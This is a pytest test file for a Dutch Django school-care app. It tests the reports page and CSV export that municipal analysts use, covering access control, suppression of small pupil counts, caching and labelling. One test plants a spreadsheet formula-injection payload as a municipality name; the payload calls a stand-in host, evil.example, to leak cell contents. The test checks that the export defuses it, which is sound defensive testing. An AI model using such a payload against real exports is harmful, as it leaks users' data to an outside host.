from __future__ import annotations

import datetime as dt

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from schoolzorg.accounts.roles import Role
from schoolzorg.consent.models import Consent, Purpose
from schoolzorg.organisations.tests.factories import MunicipalityFactory, SchoolFactory
from schoolzorg.pupils.tests.factories import PupilFactory
from schoolzorg.reports.figures import forget_figures
from schoolzorg.reports.models import MonthlySchoolFigure
from schoolzorg.reports.services import refresh_figures

TODAY = dt.date(2026, 11, 15)
pytestmark = pytest.mark.django_db


def _pupils(school, n, *, consent_by=None):
    pupils = [PupilFactory(current_school=school, last_name=f"Kindnaam{i}") for i in range(n)]
    if consent_by is not None:
        for p in pupils:
            Consent.objects.create(
                pupil=p,
                purpose=Purpose.DISCUSS_IN_CARE_TEAM,
                is_complete=True,
                given_on=dt.date(2026, 10, 3),
                recorded_by=consent_by,
            )
    return pupils


@pytest.fixture
def town(member):
    municipality = MunicipalityFactory(name="Waterstede")
    analyst = member(Role.MUNICIPAL_ANALYST, municipality)
    return municipality, analyst


def test_analyst_sees_own_municipality_without_any_pupil(town, client_for, member) -> None:
    municipality, analyst = town
    school = SchoolFactory(name="De Regenboog", municipality=municipality)
    coordinator = member(Role.SUPPORT_COORDINATOR, school)
    _pupils(school, 7, consent_by=coordinator)
    other = SchoolFactory(name="Elders", municipality=MunicipalityFactory(name="Elderstad"))
    _pupils(other, 6)
    refresh_figures(today=dt.date.today())

    response = client_for(analyst).get(reverse("reports:index"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "De Regenboog" in html
    assert "Elders" not in html
    assert "Kindnaam" not in html
    assert "<svg" in html and "<table" in html
    # Each chart keeps a readable width and scrolls in its own box, reachable by keyboard.
    charts = html.count('<svg class="chart"')
    assert charts >= 1
    assert html.count('<div class="chart-scroll" role="region" tabindex="0"') == charts
    assert "Hulpvragen zijn alle vragen om hulp aan het zorgteam" in html  # what is counted


def test_other_municipality_is_404(town, client_for) -> None:
    _, analyst = town
    elsewhere = MunicipalityFactory(name="Elderstad")
    client = client_for(analyst)
    assert client.get(reverse("reports:index"), {"gemeente": elsewhere.pk}).status_code == 404
    assert client.get(reverse("reports:export"), {"gemeente": elsewhere.pk}).status_code == 404
    assert client.get(reverse("reports:index"), {"gemeente": "x"}).status_code == 404


@pytest.mark.parametrize(
    "role",
    [Role.SUPPORT_COORDINATOR, Role.SCHOOL_DIRECTOR, Role.PRIVACY_OFFICER, Role.FUNCTIONAL_ADMIN],
)
def test_everyone_but_the_analyst_gets_404(town, client_for, member, role) -> None:
    municipality, _ = town
    school = SchoolFactory(municipality=municipality)
    org = school if role in (Role.SUPPORT_COORDINATOR, Role.SCHOOL_DIRECTOR) else municipality
    user = member(role, org)
    client = client_for(user)
    assert client.get(reverse("reports:index")).status_code == 404
    assert client.get(reverse("reports:export")).status_code == 404


def test_anonymous_goes_to_login(client) -> None:
    response = client.get(reverse("reports:index"))
    assert response.status_code == 302
    assert "/inloggen" in response["Location"]


def test_small_cells_are_hidden_on_page_and_in_csv(town, client_for, member) -> None:
    municipality, analyst = town
    big = SchoolFactory(name="Groot", municipality=municipality)
    small = SchoolFactory(name="Klein", municipality=municipality)
    coordinator = member(Role.SUPPORT_COORDINATOR, big)
    _pupils(big, 12, consent_by=coordinator)
    _pupils(small, 3, consent_by=coordinator)
    refresh_figures(today=dt.date.today())

    row = MonthlySchoolFigure.objects.get(school=small, month=dt.date.today().replace(day=1))
    assert row.pupils == 3  # stored exactly, hidden only when shown

    client = client_for(analyst)
    csv_text = client.get(reverse("reports:export")).content.decode()
    lines = [line.split(";") for line in csv_text.splitlines()[1:]]
    per_school = {(r[2], r[3]): r[4] for r in lines if r[1] == "per school"}
    # Complementary suppression: the 12 of "Groot" would give the 3 away next to a total. Both
    # are hidden with one mark: "<5" on the 12 would be false, and on the 3 alone would say
    # which one is small.
    assert per_school[("Klein", "Leerlingen")] == "×"
    assert per_school[("Groot", "Leerlingen")] == "×"
    for r in lines:
        assert r[4] not in {"1", "2", "3", "4"}, r
    legend = {r[2]: r[4] for r in lines if r[1] == "uitleg bij de tekens"}
    assert legend["<5"] == "1 tot en met 4"
    assert "een klein aantal, of een aantal dat mee verborgen is" in legend["×"]
    assert "niet uit het totaal te berekenen" in legend["×"]

    html = client.get(reverse("reports:index")).content.decode()
    assert '<span aria-hidden="true">×</span><span class="visually-hidden">verborgen</span>' in html
    assert "<dt>×</dt><dd>Verborgen: een klein aantal, of een aantal dat mee verborgen is" in html


def test_page_query_count_does_not_grow_with_data(town, client_for, member) -> None:
    municipality, analyst = town
    school = SchoolFactory(municipality=municipality)
    _pupils(school, 5)
    refresh_figures(today=dt.date.today())
    client = client_for(analyst)
    client.get(reverse("reports:index"))
    forget_figures()  # measure the page built from the roll-ups, not the kept figures
    with CaptureQueriesContext(connection) as small:
        assert client.get(reverse("reports:index")).status_code == 200

    for i in range(15):
        s = SchoolFactory(name=f"School {i}", municipality=municipality)
        _pupils(s, 6)
    refresh_figures(today=dt.date.today())
    forget_figures()
    with CaptureQueriesContext(connection) as large:
        assert client.get(reverse("reports:index")).status_code == 200
    assert len(large.captured_queries) == len(small.captured_queries)
    # Session, user, device, memberships, menu counts of other apps, 4 roll-ups, refresh stamp,
    # session save: fixed, whatever the number of schools.
    assert len(large.captured_queries) <= 20


def test_floor_is_tiny_and_public(client) -> None:
    response = client.get(reverse("reports:floor"))
    assert response.status_code == 200
    assert response.content == b"ok"


def test_figures_are_kept_until_the_next_refresh(town, client_for, member) -> None:
    municipality, analyst = town
    _pupils(SchoolFactory(name="De Regenboog", municipality=municipality), 6)
    refresh_figures(today=dt.date.today())
    client = client_for(analyst)
    with CaptureQueriesContext(connection) as built:
        assert "De Regenboog" in client.get(reverse("reports:index")).content.decode()

    _pupils(SchoolFactory(name="De Nieuwe School", municipality=municipality), 6)
    with CaptureQueriesContext(connection) as kept:
        html = client.get(reverse("reports:index")).content.decode()
    assert "De Regenboog" in html and "De Nieuwe School" not in html  # not refreshed yet
    assert len(kept.captured_queries) < len(built.captured_queries)  # no roll-up read

    refresh_figures(today=dt.date.today())
    assert "De Nieuwe School" in client.get(reverse("reports:index")).content.decode()
    assert "De Nieuwe School" in client.get(reverse("reports:export")).content.decode()


def test_the_csv_opens_in_dutch_excel_and_runs_no_formula_from_a_name(town, client_for) -> None:
    municipality, analyst = town
    municipality.name = '=HYPERLINK("http://evil.example/?"&A2,"Waterstede")'
    municipality.save()
    refresh_figures(today=dt.date.today())
    body = client_for(analyst).get(reverse("reports:export")).content.decode("utf-8")
    assert body.startswith("\ufeffgemeente;tabel;rij;kolom;waarde")
    lines = body.splitlines()[1:]
    assert lines and all(line.startswith("\"'=HYPERLINK(") for line in lines)


def test_the_analysts_home_points_to_the_figures(town, client_for, member) -> None:
    municipality, analyst = town
    html = client_for(analyst).get(reverse("home")).content.decode()
    assert "Mijn rollen" in html
    assert f'{reverse("reports:index")}?gemeente={municipality.pk}">Cijfers Waterstede</a>' in html

    coordinator = member(Role.SUPPORT_COORDINATOR, SchoolFactory(municipality=municipality))
    assert (
        reverse("reports:index")
        not in client_for(coordinator).get(reverse("home")).content.decode()
    )


def test_the_page_says_what_consent_coverage_is_and_why_it_shows_a_dash(town, client_for) -> None:
    _, analyst = town
    html = client_for(analyst).get(reverse("reports:index")).content.decode()
    assert (
        "Dekking toestemming: van de leerlingen met een open casus, het deel met toestemming"
        in html
    )
    assert "minder dan 10 leerlingen met een open casus" in html
    # The dash is named as a sign, not read as a word in a broken sentence ("Er staat – als").
    assert "Staat er een streepje (–)? Dan heeft de school minder dan 10" in html
    assert "Er staat – als" not in html
    assert "Downloaden als CSV-bestand (voor Excel)</a>" in html and "Download als" not in html


def test_months_are_named_with_the_whole_year(town, client_for, member) -> None:
    """ "jan 26" reads as 26 January: the tables, the charts and the CSV say "jan 2026"."""
    from schoolzorg.reports.figures import month_label

    assert month_label(dt.date(2026, 1, 1)) == "jan 2026"
    municipality, analyst = town
    _pupils(SchoolFactory(name="De Regenboog", municipality=municipality), 3)
    refresh_figures(today=TODAY)
    client = client_for(analyst)
    html = client.get(reverse("reports:index")).content.decode()
    assert '<th scope="col">nov 2026</th>' in html
    assert '<tspan x="' in html and '">nov</tspan><tspan ' in html and '">2026</tspan>' in html
    csv = client.get(reverse("reports:export")).content.decode()
    assert "nov 2026" in csv and "nov 26" not in csv


def test_lead_times_say_they_are_school_days_by_month_completed(town, client_for) -> None:
    _, analyst = town
    html = client_for(analyst).get(reverse("reports:index")).content.decode()
    assert "Mediaan in schooldagen per stap" in html
    assert "in de maand waarin de stap klaar was" in html


def test_the_schools_table_says_it_hides_per_column_and_counts_stocks_today(
    town, client_for, member
) -> None:
    """December runs until the 31st: on the 5th its pupils, consents and open cases are
    counted today, and the caption says so (not "op het eind van de laatste maand")."""
    from zoneinfo import ZoneInfo

    import time_machine

    municipality, analyst = town
    _pupils(SchoolFactory(name="De Regenboog", municipality=municipality), 6)
    amsterdam = ZoneInfo("Europe/Amsterdam")
    with time_machine.travel(dt.datetime(2026, 12, 5, 10, 0, tzinfo=amsterdam), tick=False):
        refresh_figures()
        forget_figures()
        html = client_for(analyst).get(reverse("reports:index")).content.decode()
    assert (
        "leerlingen, toestemming en open casussen vandaag (5 december 2026): de maand loopt nog"
        in html
    )
    assert "op het eind van de laatste maand" not in html
    assert "Daarom verbergen we per kolom" in html
    assert "Een × in de ene kolom zegt niets over een andere kolom." in html
    assert "Verandert een leerling van school, dan veranderen de cijfers van de oude school" in html
    assert "alle verborgen aantallen van die tabel" not in html
